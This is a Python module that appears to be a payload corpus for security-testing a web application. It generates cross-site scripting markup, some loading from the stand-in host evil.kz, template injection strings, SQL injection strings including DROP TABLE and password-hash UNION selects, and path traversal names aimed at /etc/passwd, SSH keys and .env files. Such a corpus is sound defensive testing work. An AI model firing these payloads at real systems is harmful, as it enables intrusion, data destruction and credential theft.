"""What is said to the house by whoever means harm: markup, templates, SQL and paths, each list with its shapes."""

from itertools import product

SAYS = "alert(7331)"
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "oncopy")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "math",
    "iframe",
    "object",
    "a",
    "select autofocus",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#10;script:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
)
_CARRIERS = ('<a href="{}">x</a>', '<iframe src="{}">', '<form action="{}"><input type=submit>', '<base href="{}">')
_OUT = ('"', "'", ">", "</title>", "</textarea>", "</script>", "-->", "]]>", "`", "</style>", "\u2028", "\\")
_WHOLE = (
    f"<script>{SAYS}</script>",
    f"<SCRIPT SRC=//evil.kz></SCRIPT><script>{SAYS}",
    f"<scr<script>ipt>{SAYS}</scr</script>ipt>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={SAYS}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={SAYS}>">',
    f"<svg><style><img src=x onerror={SAYS}></style></svg>",
    f"<template><script>{SAYS}</script></template>",
    f"&lt;script&gt;{SAYS}&lt;/script&gt;",
    f"&#60;script&#62;{SAYS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{SAYS}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{SAYS}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{SAYS}\uff1c/script\uff1e",
    "<meta http-equiv=refresh content=0;url=//evil.kz>",
    "<link rel=stylesheet href=//evil.kz>",
    "<style>*{background:url(//evil.kz)}</style>",
    "<input name=csrf value=x>",
    "<div hx-get=/sign-out hx-trigger=load></div>",
    "<plaintext>",
    "<!--",
)
MARKUP = (
    *_WHOLE,
    *(f"<{tag} {event}={SAYS}>" for tag, event in product(_TAGS, _EVENTS)),
    *(carrier.format(f"{scheme}{SAYS}") for scheme, carrier in product(_SCHEMES, _CARRIERS)),
    *(f"{end}<img src=x onerror={SAYS}>" for end in _OUT),
    *(f'{quote} {event}="{SAYS}" x={quote}' for quote, event in product(('"', "'", "`", ""), _EVENTS)),
    *(f"{end} onfocus={SAYS} autofocus tabindex=1 " for end in _OUT),
)
"""Over two hundred ways to have a browser do something."""

_SUMS = (
    "7*7",
    "config",
    "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "request|attr('app')",
)
_OPENINGS = (
    "{{%s}}",
    "{%% print(%s) %%}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%s}",
    "{0.%s}",
    "%%(%s)s",
    "$%s",
    "@(%s)",
    "[[%s]]",
    "{{%s|safe}}",
)
TEMPLATES = tuple(opening % said for opening, said in product(_OPENINGS, _SUMS))
"""Sixty ways to have a template reckon."""

SQL = (
    "'",
    '"',
    "`",
    "\\",
    ";",
    "--",
    "/*",
    "')",
    "'))",
    '")',
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1 OR 1=1",
    "1; DROP TABLE account",
    "'; DROP TABLE account; --",
    "' UNION SELECT password_hash FROM account --",
    "%",
    "_",
    "%%%" * 30,
    "[a-z]",
    "*",
    "NEAR(",
    "a NEAR/9 b",
    'title:"x',
    "account.password_hash",
    "password_hash DESC",
    "1) UNION SELECT 1,2,3 --",
    "\x00",
    "NULL",
    "' AND sleep(9) --",
    "(((((((((",
    '"" OR ""',
    "AND OR NOT",
    "-",
    "^x",
    "{x}",
    "rowid",
    "$$",
    "E'\\x27'",
    "9" * 40,
    "-1",
    "1e400",
    "0x10",
    "true",
    "[]",
    "{}",
    "\ud800",
)
"""What breaks a statement that is pasted together, a search, and a number."""

_UPS = ("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%5c")
_AIMS = ("etc/passwd", "secret.key", "zanwatch.db", "app.py", "proc/self/environ", "..")
PATHS = (
    *(up * depth + aim for up, depth, aim in product(_UPS, (1, 6), _AIMS[:4])),
    *(
        "/etc/passwd",
        "//etc/passwd",
        "file:///etc/passwd",
        "C:\\boot.ini",
        "\\\\evil\\x",
        "CON",
        "nul.txt",
        "aux",
        "secret.key%00.js",
    ),
    *(
        "/proc/self/environ",
        ".",
        "..",
        "~",
        "~root/.ssh/id_rsa",
        ".git/config",
        ".env",
        "x" * 5000,
        "a/../../b",
        "%2f%2fetc/passwd",
    ),
)
"""Over eighty names that lead out of a folder where one makes paths of them."""
